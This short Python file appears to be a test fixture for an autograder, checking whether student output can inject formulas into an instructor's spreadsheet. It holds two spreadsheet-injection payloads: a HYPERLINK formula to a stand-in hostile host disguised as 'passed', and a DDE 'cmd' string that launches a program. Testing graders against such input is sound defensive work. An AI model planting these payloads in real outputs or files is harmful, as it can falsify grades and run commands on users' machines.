"""
tries: to have the instructor's spreadsheet compute what it says
expect: error failed timeout
must_not: shown
"""


def double(x):
    raise ValueError("=HYPERLINK(\"http://hostile.example\";\"passed\")")


def draw_noise(n):
    return "@SUM(1+1)*cmd|' /C calc'!A0"
